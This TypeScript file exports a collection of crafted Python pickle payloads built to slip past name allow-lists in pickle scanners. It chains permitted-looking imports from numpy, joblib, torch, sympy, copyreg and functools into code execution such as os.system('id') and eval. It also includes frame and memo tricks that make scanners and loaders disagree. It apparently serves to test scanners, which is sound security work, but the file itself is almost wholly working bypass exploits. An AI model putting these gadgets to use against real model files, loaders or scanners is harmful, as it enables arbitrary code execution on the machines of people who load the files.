/** Pickles of listed names alone that have one of them, or the reader, do what the list does not allow. */

const short = (text: string): string => `\x8c${String.fromCharCode(text.length)}${text}`;
/** An import in protocol 4. */
const named = (module: string, name: string): string => `${short(module)}${short(name)}\x93`;

const ORDERED = named("collections", "OrderedDict");
/** A class of plain objects with attributes, which is a mapping too. */
const OBJECT = `${named("collections", "UserDict")})\x81`;
/** Loads any pickle of the bytes that it is called with. */
const LOADS = named("torch.storage", "_load_from_bytes");
/** Runs the code of a model that it is told to fetch. */
const FETCHES = named("sentence_transformers.sentence_transformer.model", "SentenceTransformer");
const BYTES = "C\x05hello";
const EVALUATED = short("__import__('os').system('id')");
const ADD = named("sympy.core.add", "Add");
const NDARRAY = `${named("numpy.core.multiarray", "_reconstruct")}${named("numpy", "ndarray")}K\0\x85C\x01b\x87R`;
const dtype = (code: string, state: string): string => `${named("numpy", "dtype")}${short(code)}\x89\x88\x87R${state}b`;
const OBJECTS = dtype("O8", "(K\x03\x8c\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ft");
const odd = (key: string, value = LOADS): string => `${short(key)}${value}`;
/** A partial of `list` whose state says another function and its arguments. */
const turned = (callable: string, args: string): string =>
	`${named("functools", "partial")}${named("builtins", "list")}\x85R(${callable}${args}\x85NNtb`;
const many = (count: number, one: (index: number) => string): string =>
	Array.from({ length: count }, (_, i) => one(i)).join("");

/** joblib's wrapper of an array whose dtype says in its flags alone that there are objects, so that a pickle follows. */
function flagged(): string {
	// By the memo of a pickle of its own this is os.system, by that of the whole file it is nothing.
	const inner = `\x80\x04${short("os")}\x94${short("system")}\x9400h\0h\x01\x93${short("id")}\x85R.`;
	const size = String.fromCharCode(inner.length);
	const wrapper = `${named("joblib.numpy_pickle", "NumpyArrayWrapper")})\x81}(${short("subclass")}${named("numpy", "ndarray")}`;
	const about = `${short("shape")}K\x01\x85${short("order")}${short("C")}${short("dtype")}`;
	return `](${short("a")}\x94${short("b")}\x94${wrapper}${about}${dtype(`V${inner.length}`, `(K\x03\x8c\x01|NNNK${size}K\x01K\x3ft`)}${short("allow_mmap")}\x89ub${inner}e`;
}

/** Bodies between PROTO and STOP of protocol 4. */
const BODIES: Readonly<Record<string, string>> = {
	"a state in slots that was filled by SETITEMS": `${OBJECT}N${ORDERED})R(${odd("__setstate__")}u\x86b`,
	"a state in slots that a call made": `${OBJECT}N${ORDERED}](${odd("__setstate__")}\x86e\x85R\x86b`,
	"a first of two states that a call made": `${OBJECT}${ORDERED}](${odd("__setstate__")}\x86e\x85RN\x86b`,
	"a state that is filled after it was given": `${OBJECT}}q\x05bh\x05${odd("__setstate__")}s0`,
	"a mapping that is filled after it was given": `${OBJECT}${ORDERED})Rq\x05bh\x05${odd("__setstate__")}s0`,
	"a method after more attributes than are kept": `${OBJECT}}(${many(40, (i) => `${short(`a${i}`)}K\x01`)}${odd("__setstate__")}ub`,
	"a method in a mapping of more than are kept": `${OBJECT}${ORDERED}}(${many(40, (i) => `${short(`a${i}`)}K\x01`)}${odd("__setstate__", named("builtins", "print"))}u\x85Rb`,
	"the buffer of an array, at an address": `${ORDERED}${OBJECT}}${odd("__array_interface__", "}")}sb\x85R`,
	"a method that numpy asks the instance for": `${ORDERED}${OBJECT}}${odd("__array__", named("builtins", "print"))}sb\x85R`,
	"a method of a library's own protocol": `${OBJECT}}${odd("__whatever__", named("builtins", "print"))}sb`,
	"a partial that is turned into another": turned(FETCHES, short("a/b")),
	"a partial that is turned into another, called by a constructor": `${ORDERED}${OBJECT}}${odd("keys", turned(FETCHES, short("a/b")))}sb\x85R`,
	"keys of a mapping that are a function": `${ORDERED}${OBJECT}}${odd("keys", named("builtins", "print"))}sb\x85R`,
	"a function with rules that is kept": `]${LOADS}a`,
	"a function with rules in a state": `${named("torch.nn.modules.container", "Sequential")})\x81}${odd("forward")}sb`,
	"a method of a key": `${named("http.cookies", "Morsel")})\x81${OBJECT}}${odd("lower", turned(LOADS, BYTES))}sbNs`,
	"a text for sympy by copyreg.__newobj__": `${named("copyreg", "__newobj__")}${ADD}${EVALUATED}\x86R`,
	"a text for sympy by copyreg.__newobj_ex__": `${named("copyreg", "__newobj_ex__")}${ADD}${EVALUATED}\x85}\x87R`,
	"a text for sympy by copyreg._reconstructor": `${named("copyreg", "_reconstructor")}${ADD}${named("builtins", "str")}${EVALUATED}\x87R`,
	"a text for sympy by keyword": `${named("sympy.core.numbers", "Float")})}${short("num")}${EVALUATED}s\x92`,
	"sympy's __new__ for a partial": `${named("functools", "partial")}${named("builtins", "getattr")}${ADD}${short("__new__")}\x86R\x85R`,
	"raw bytes for an array of objects": `${NDARRAY}(K\x01K\x01\x85${OBJECTS}\x89C\x08AAAAAAAAtb`,
	"raw bytes for an array with a field of objects": `${NDARRAY}(K\x01K\x01\x85${dtype("V8", `(K\x03\x8c\x01|N\x8c\x01f\x85}\x8c\x01f${OBJECTS}K\0\x86sK\x08K\x01K\0t`)}\x89C\x08AAAAAAAAtb`,
	"joblib's array whose dtype has objects by its flags": flagged(),
};

/** Whole pickles by what they do. */
export const GADGETS: Readonly<Record<string, string>> = {
	...Object.fromEntries(Object.entries(BODIES).map(([name, body]) => [name, `\x80\x04${body}.`])),
	"a hash of an old class of Python 2": "cUserDict\nIterableUserDict\n)\x81}S'__hash__'\nc__builtin__\nid\nsb.",
	"entries of an old class of Python 2": "(cUserDict\nIterableUserDict\no}S'__setitem__'\nc__builtin__\nid\nsb.",
	"the memo of a pickle that does nothing": `\x80\x04N.${short("os")}q\x05.${short("a")}0${short("system")}q\x060h\x05h\x06\x93)R.`,
	"a pickle that a reader finds who crosses one frame and drops the rest of another":
		"\x80\x04\x95\x08\0\0\0\0\0\0\0X\x10\0\0\0AAAAAAAAAAAAAAAA\x80\x04\x95\x08\0\0\0\0\0\0\0X\x10\0\0\0AAAAAAAAAAAAAAAAAAAcpty\nanything\n)R.",
	"a pickle after what a frame leaves, for a reader of files": "\x95\x03\0\0\0\0\0\0\0N.\nc__builtin__\neval\n)R.",
	"a pickle after opcodes that a frame leaves": `\x80\x04\x95\x03\0\0\0\0\0\0\0N.0${short("os")}${short("system")}\x93)R.`,
};
